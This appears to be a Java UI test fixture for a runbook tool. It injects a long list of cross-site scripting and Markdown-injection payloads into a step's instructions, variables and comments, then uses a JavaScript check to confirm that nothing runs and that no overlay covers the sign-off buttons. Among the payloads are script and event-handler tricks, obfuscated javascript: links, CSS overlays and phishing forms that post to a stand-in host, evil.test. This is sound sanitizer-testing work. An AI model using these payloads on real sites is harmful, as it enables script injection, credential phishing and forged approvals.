package dev.tminus.ui;

import dev.tminus.planning.InMemoryRuns;
import dev.tminus.run.RunCommand;
import dev.tminus.run.RunId;
import dev.tminus.runbook.Authority;
import dev.tminus.runbook.ManualStep;
import dev.tminus.runbook.Mode;
import dev.tminus.runbook.Quorum;
import dev.tminus.runbook.Role;
import dev.tminus.runbook.Runbook;
import dev.tminus.runbook.Start;
import dev.tminus.runbook.StepBasics;
import dev.tminus.runbook.StepPart;
import dev.tminus.runbook.names.ContentHash;
import dev.tminus.runbook.names.EnvironmentName;
import dev.tminus.runbook.names.PhaseId;
import dev.tminus.runbook.names.RoleName;
import dev.tminus.runbook.names.RunbookId;
import dev.tminus.runbook.names.StepId;
import dev.tminus.runbook.names.TeamName;
import dev.tminus.testing.Brief;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

/// Ways in which texts have become style, script, forms, frames, requests and overlays elsewhere,
/// and a run that has all of them wherever people and files write Markdown.
public final class Bypasses {

    public static final StepId STEP = new StepId("hostile");

    /// Where a value may stand; `%s` is the value.
    public static final List<String> PLACES =
            List.of(
                    "%s",
                    "`%s`",
                    "```\n%s\n```",
                    "    %s",
                    "- %s",
                    "# %s",
                    "> %s",
                    "**%s**",
                    "[x](%s)",
                    "[x](<https://example.test/%s>)",
                    "[%s](https://example.test)",
                    "[x](https://example.test \"%s\")",
                    "![%s](https://example.test/a.png)",
                    "| a |\n|---|\n| %s |",
                    "<b title=\"%s\">");

    public static final List<String> ALL =
            List.of(
                    "<style>button{position:fixed;inset:0;opacity:0}</style>",
                    "<STYLE>@import 'https://evil.test/a.css';</STYLE>",
                    "<style\n>*{display:none}</style\n>",
                    "<style>button{all:unset}",
                    "</div></div><style>.signbox{zoom:50}</style>",
                    "<link rel=stylesheet href=https://evil.test/b.css>",
                    "<div style=\"position:fixed;inset:0;z-index:9999;background:#fff\">Signed</div>",
                    "<p style='position:absolute;top:0'>Passed</p>",
                    "<div class=\"signbox\"><button class=\"btn primary\">Sign off as"
                            + " QA</button></div>",
                    "<div id=outlet class=drawer>x</div>",
                    "<span slot=tooltip popover>x</span>",
                    "<dialog open>Sign in again</dialog>",
                    "<form action=https://evil.test><input name=password><button>Sign"
                            + " in</button></form>",
                    "<form id=f></form><button form=f formaction=https://evil.test>Go</button>",
                    "<input type=image src=https://evil.test/c.png autofocus onfocus=owned=1>",
                    "<textarea>\n<img src=x onerror=owned=2>",
                    "<select><option>x</select>",
                    "<script>owned=3</script>",
                    "<SCRIPT SRC=https://evil.test/d.js></SCRIPT>",
                    "<scr<script>ipt>owned=4</scr</script>ipt>",
                    "<script\n>owned=5</script\n>",
                    "<script type=module>import 'https://evil.test/e.js'</script>",
                    "<noscript><p title=\"</noscript><img src=x onerror=owned=6>\">",
                    "<template><script>owned=7</script></template>",
                    "<img src=x onerror=owned=8>",
                    "<img src=https://evil.test/f.png>",
                    "<img srcset=\"https://evil.test/g.png 1x\">",
                    "<picture><source srcset=https://evil.test/h.png><img></picture>",
                    "![pixel](https://evil.test/i.png)",
                    "![pixel][1]\n\n[1]: https://evil.test/j.png",
                    "[![in](https://evil.test/k.png)](javascript:owned=9)",
                    "<video autoplay src=https://evil.test/l.mp4></video>",
                    "<audio autoplay src=https://evil.test/m.ogg></audio>",
                    "<iframe src=https://evil.test/n></iframe>",
                    "<iframe srcdoc=\"<script>parent.owned=10</script>\"></iframe>",
                    "<object data=https://evil.test/o></object>",
                    "<embed src=https://evil.test/p>",
                    "<frameset><frame src=https://evil.test/q></frameset>",
                    "<base href=https://evil.test/>",
                    "<meta http-equiv=refresh content=\"0;url=https://evil.test/r\">",
                    "<svg onload=owned=11>",
                    "<svg><style>*{opacity:0}</style></svg>",
                    "<svg><use href=https://evil.test/s.svg#x /></svg>",
                    "<svg><a xlink:href=javascript:owned=12><text>x</text></a></svg>",
                    "<svg><foreignObject><iframe src=https://evil.test/t></foreignObject></svg>",
                    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x"
                            + " onerror=owned=13>\">",
                    "<math href=javascript:owned=14>x</math>",
                    "<form><math><mtext></form><form><mglyph><style></math><img src"
                            + " onerror=owned=15>",
                    "<details open ontoggle=owned=16>x</details>",
                    "<marquee onstart=owned=17>x</marquee>",
                    "<body onload=owned=18>",
                    "<a href=javascript:owned=19>x</a>",
                    "[x](javascript:owned=20)",
                    "[x](JaVaScRiPt:owned=21)",
                    "[x](java\tscript:owned=22)",
                    "[x](&#106;avascript:owned=23)",
                    "[x](&#x6A&#x61vascript:owned=24)",
                    "[x](javascript&colon;owned=25)",
                    "[x](<javascript:owned=26>)",
                    "[x]( javascript:owned=27)",
                    "[x](\u0001javascript:owned=28)",
                    "[x](vbscript:owned)",
                    "[x](data:text/html;base64,PHNjcmlwdD5vd25lZD0yOTwvc2NyaXB0Pg==)",
                    "[x](https://example.test/\" onmouseover=\"owned=30)",
                    "[x](https://example.test \"\\\" onmouseover=owned=31 \\\"\")",
                    "[x][y]\n\n[y]: javascript:owned=32 'z'",
                    "<javascript:owned=33>",
                    "<https://evil.test/\"onmouseover=\"owned=34>",
                    "[x](https://user:word@evil.test/)",
                    "[Sign in again](//evil.test/)",
                    "[Sign out](/sign-out)",
                    "``` \" onclick=owned=35 class=\"x\nx\n```",
                    "`</code><img src=x onerror=owned=36>`",
                    "` <style>*{opacity:0}</style>",
                    "| <style>*{opacity:0}</style> |\n|---|\n| <img src=x onerror=owned=37> |",
                    "# <b id=outlet>x</b> {#outlet .signbox style=\"position:fixed\"}",
                    "- [x] <input type=checkbox onclick=owned=38>",
                    "1. <ol><li style=position:fixed>",
                    "> <blockquote cite=javascript:owned=39>",
                    "<!-- --><img src=x onerror=owned=40><!-- -->",
                    "<!--><img src=x onerror=owned=41>-->",
                    "<![CDATA[<img src=x onerror=owned=42>]]>",
                    "<?xml-stylesheet href=https://evil.test/u.css?>",
                    "<!DOCTYPE html [<!ENTITY x SYSTEM 'https://evil.test/v'>]>",
                    "&lt;img src=x onerror=owned=43&gt;",
                    "&#60;script&#62;owned=44&#60;/script&#62;",
                    "\\<img src=x onerror=owned=45>",
                    "<img/src=x/onerror=owned=46>",
                    "<<img src=x onerror=owned=47>",
                    "<img src=x onerror=owned=48 ",
                    "<x onclick=owned=49 contenteditable autofocus tabindex=1>x",
                    "<vaadin-dialog opened>x</vaadin-dialog>",
                    "<vaadin-notification-container>Signed</vaadin-notification-container>",
                    "${alert(1)} #{owned} {{constructor.constructor('owned=50')()}}",
                    "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305".repeat(40) + "algo",
                    "W".repeat(2_000),
                    "\u202Edengis \u2066x",
                    "*".repeat(60) + "x" + "*".repeat(60),
                    "[".repeat(60) + "x" + "](javascript:owned=51)".repeat(60));

    /// Says what of a page is not as it should be: elements and attributes in texts that are not on
    /// the list, elements anywhere that no screen has, and a button that something lies over.
    public static final String WHAT_ESCAPED =
            """
            () => {
              const found = [];
              const tags = /^(p|h[3-6]|em|strong|del|bdi|br|hr|code|pre|blockquote|ul|ol|li|a|table|thead|tbody|tr|th|td)$/;
              const attributes = /^(href|target|rel|title|start|align)$/;
              for (const e of document.querySelectorAll('.md *')) {
                if (!tags.test(e.localName)) found.push('element ' + e.localName);
                for (const a of e.attributes)
                  if (!attributes.test(a.name)) found.push('attribute ' + a.name);
                if (e.localName === 'a' && (!/^(https?|mailto):/.test(e.href)
                    || e.target !== '_blank' || !/noopener/.test(e.rel))) found.push('link ' + e.href);
                if (getComputedStyle(e).position !== 'static') found.push('position of ' + e.localName);
              }
              for (const md of document.querySelectorAll('.md')) {
                if (md.matches('.raw')) found.push('raw text');
                const style = getComputedStyle(md);
                if (style.overflow !== 'clip' || style.isolation !== 'isolate') found.push('no bounds');
              }
              for (const e of document.querySelectorAll('iframe,frame,object,embed,form,body base,dialog,svg script,meta[http-equiv=refresh]'))
                found.push(e.localName + ' on the page');
              if (window.owned !== undefined) found.push('script ' + window.owned);
              const sign = [...document.querySelectorAll('.signbox button')].find(b => b.innerText.includes('Sign off'));
              const hold = [...document.querySelectorAll('.runheader button')].find(b => b.innerText.includes('Hold'));
              for (const button of [hold, sign]) {
                button.scrollIntoView({block: 'center'});
                const box = button.getBoundingClientRect();
                const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
                if (!button.contains(top)) found.push('something over ' + button.innerText);
                if (box.width > 400 || box.height > 60) found.push('a button of ' + box.width);
                if (getComputedStyle(button).opacity !== '1') found.push('an unseen button');
              }
              return found;
            }
            """;

    private static final RoleName OPS = new RoleName("ops");
    private static final RoleName QA = new RoleName("qa");
    private static final RoleName MANAGER = new RoleName("manager");

    private Bypasses() {}

    /// A run whose step awaits its sign-off, with all of them in its instructions, in values that
    /// stand there in every place, and in comments.
    public static RunId underWay(InMemoryRuns runs) {
        return underWay(runs, "Hostile");
    }

    static RunId underWay(InMemoryRuns runs, String title) {
        var runbook = runbook(title);
        var plan =
                Brief.runPlanned(
                        12,
                        runbook.id(),
                        ContentHash.of(new byte[] {1}),
                        ContentHash.of(new byte[] {2}),
                        new EnvironmentName("production"),
                        Mode.LIVE,
                        Sample.ZERO,
                        Sample.BOSTON,
                        Map.of(
                                OPS, List.of(Sample.OPS),
                                QA, List.of(Sample.QA),
                                MANAGER, List.of(Sample.MANAGER)),
                        Map.of());
        runs.at(Sample.ZERO.minusSeconds(9_000));
        var run = runs.plan(plan, runbook, Sample.workspace(), Sample.by(Sample.MANAGER));
        var at = Sample.NOW.minusSeconds(600);
        Sample.accept(runs, run, at, Sample.MANAGER, new RunCommand.StartRun());
        Sample.accept(runs, run, at, Sample.OPS, new RunCommand.StartStep(STEP));
        for (var hostile : ALL) {
            Sample.accept(runs, run, at, Sample.OPS, new RunCommand.Comment(STEP, hostile));
        }
        Sample.accept(runs, run, at, Sample.OPS, new RunCommand.FinishStep(STEP));
        runs.at(Sample.NOW);
        return run;
    }

    private static Runbook runbook(String title) {
        var variables = new LinkedHashMap<String, String>();
        var text = new StringBuilder(String.join("\n\n", ALL)).append("\n```\n\n");
        for (var hostile : ALL) {
            var name = "v" + variables.size();
            var place = PLACES.get(variables.size() % PLACES.size());
            text.append(place.formatted("{{variables." + name + "}}")).append("\n\n");
            variables.put(name, hostile);
        }
        var manager = new Quorum(MANAGER, 1);
        return Brief.runbook(
                new RunbookId("hostile"),
                title,
                "the switch",
                Sample.BOSTON,
                List.of(new EnvironmentName("production")),
                null,
                Map.of(
                        OPS, role(OPS, "boston-ops"),
                        QA, role(QA, "shanghai-qa"),
                        MANAGER, role(MANAGER, "sf-release")),
                Map.of(Authority.START, manager, Authority.HOLD, manager),
                Set.of(StepPart.DOER, StepPart.SIGNER),
                variables,
                Map.of(),
                List.of(
                        Brief.phase(
                                new PhaseId("only"),
                                "Only",
                                null,
                                List.of(new ManualStep(step(text.toString()))))));
    }

    private static Role role(RoleName name, String team) {
        return new Role(name, List.of(new Role.Cover(new TeamName(team), null)), null);
    }

    private static StepBasics step(String instructions) {
        return Brief.stepBasics(
                STEP,
                "1.1",
                "Do it",
                OPS,
                null,
                true,
                false,
                Start.BY_OWNER,
                Duration.ofMinutes(5),
                List.of(),
                instructions,
                List.of(),
                List.of(),
                List.of(Brief.signOff(new Quorum(QA, 1))));
    }
}
